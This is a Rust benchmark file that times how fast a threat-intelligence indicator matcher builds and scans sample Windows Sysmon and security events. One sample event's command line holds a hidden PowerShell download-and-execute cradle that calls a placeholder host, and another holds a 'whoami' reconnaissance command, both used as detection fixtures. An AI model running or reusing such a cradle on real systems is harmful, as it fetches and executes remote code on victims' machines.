//! Matcher costs: building it over generated indicators, and scanning typical events
//! (Sysmon process creation, network connection, DNS query; no hit) with a million
//! indicators loaded.
//!
//! `cargo bench -p rampart-intel --bench matcher`

#![allow(missing_docs)]

use criterion::{criterion_group, criterion_main, Criterion, Throughput};
use rampart_event::{Event, Value};
use rampart_intel::matcher::{Matcher, MatcherBuilder};
use std::hint::black_box;

fn build(count: usize) -> Matcher {
    let now = chrono::Utc::now();
    let mut builder = MatcherBuilder::new(&[], now);
    for indicator in rampart_intel::synthetic::indicators(count, 1, now) {
        builder.add(&indicator);
    }
    builder.build()
}

fn event(fields: &[(&str, &str)]) -> Event {
    let mut event = Event::default();
    for (name, value) in fields {
        event.set(name, Value::Str((*value).into()));
    }
    event
}

fn events() -> Vec<Event> {
    vec![
        event(&[
            ("EventID", "1"),
            ("UtcTime", "2019-03-19 23:39:22.123"),
            ("ProcessGuid", "{747F3D96-7D1A-5C91-0000-0010B8C61E00}"),
            ("Image", r"C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe"),
            ("CommandLine", "powershell.exe -nop -w hidden -c \"IEX (New-Object Net.WebClient).DownloadString('http://update.example.com/a.ps1')\""),
            ("CurrentDirectory", r"C:\Users\alice\"),
            ("User", r"CORP\alice"),
            ("Hashes", "SHA1=0E7D3F5A7C1B1B8B3E8C5F8D2A1E4C7B9D0F2A3C,MD5=7353F60B1739074EB17C5F4DDDEFE239,SHA256=DE96A6E69944335375DC1AC238336066889D9FFC7D73628EF4FE1B1B160AB32C,IMPHASH=F34D5F2D4577ED6D9CEEC516C1F5A744"),
            ("ParentImage", r"C:\Windows\explorer.exe"),
            ("ParentCommandLine", r"C:\Windows\Explorer.EXE"),
        ]),
        event(&[
            ("EventID", "3"),
            ("Image", r"C:\Windows\System32\svchost.exe"),
            ("Protocol", "tcp"),
            ("SourceIp", "10.0.2.15"),
            ("SourcePort", "49712"),
            ("DestinationIp", "93.184.216.34"),
            ("DestinationHostname", "www.example.org"),
            ("DestinationPort", "443"),
        ]),
        event(&[
            ("EventID", "22"),
            ("QueryName", "telemetry.office.example.net"),
            ("QueryResults", "type:  5 a.example.net;::ffff:93.184.216.34;"),
            ("Image", r"C:\Program Files\Office\outlook.exe"),
        ]),
        event(&[
            ("EventID", "4688"),
            ("SubjectUserName", "alice"),
            ("NewProcessName", r"C:\Windows\System32\cmd.exe"),
            ("CommandLine", "cmd.exe /c whoami"),
        ]),
    ]
}

fn benches(c: &mut Criterion) {
    let mut group = c.benchmark_group("matcher-build");
    group.sample_size(10);
    group.throughput(Throughput::Elements(100_000));
    group.bench_function("100k generated indicators", |b| {
        b.iter(|| black_box(build(100_000)))
    });
    group.finish();

    let matcher = build(1_000_000);
    let events = events();
    let mut group = c.benchmark_group("matcher-scan");
    group.throughput(Throughput::Elements(events.len() as u64));
    group.bench_function("4 events, 1M indicators", |b| {
        b.iter(|| {
            let mut hits = 0;
            for event in &events {
                matcher.scan(black_box(event), &mut |_| hits += 1);
            }
            black_box(hits)
        })
    });
    group.finish();
}

criterion_group!(matcher, benches);
criterion_main!(matcher);
